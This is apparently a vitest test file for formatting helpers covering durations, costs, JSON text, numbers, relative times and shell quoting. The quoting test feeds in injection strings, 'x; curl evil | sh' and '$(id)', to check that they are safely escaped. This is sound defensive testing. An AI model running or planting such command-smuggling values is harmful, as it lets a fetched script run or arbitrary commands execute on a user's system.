import { expect, test } from "vitest";
import { ago, dollars, duration, number, quoted, text } from "./format";

test("durations have the units that a person would say", () => {
  expect([0.0000123, 0.0123, 1.234, 59, 90, 120, 3599.7, 3600, 5400, 6 * 3600, 86_399, 2 * 86_400].map(duration)).toEqual([
    "12 µs", "12.3 ms", "1.23 s", "59 s", "1 min 30 s", "2 min", "60 min", "1 h", "1 h 30 min", "6 h", "24 h", "2 days",
  ]);
  expect(duration(-5)).toBe("−5 s");
  expect(duration(null)).toBe("–");
});

test("a cost that is not known in full says so", () => {
  expect(dollars(null, 0.02)).toBe("≥ $0.02");
  expect(dollars(null)).toBe("not known");
  expect(dollars(0.00001)).toBe("< $0.0001");
});

test("a list of words stands on one line, and what is within others is indented", () => {
  expect(text(["os.path", 1, null])).toBe('["os.path", 1, null]');
  expect(text([])).toBe("[]");
  expect(text({ path: [1] })).toBe('{\n  "path": [\n    1\n  ]\n}');
});

test("what an address or an agent gives is one word of a command", () => {
  expect(["support", "a/b:1", "it's", "x; curl evil | sh", "$(id)"].map(quoted)).toEqual(["support", "a/b:1", "'it'\\''s'", "'x; curl evil | sh'", "'$(id)'"]);
});

test("numbers and times are short", () => {
  expect([0.12345, 1234, 12345, 1234.5].map((value) => number(value))).toEqual(["0.123", "1234", "12,345", "1,235"]);
  expect(ago(100, 100 + 7200)).toBe("2 h ago");
  expect(ago(200, 100)).toBe("in 1 min");
});
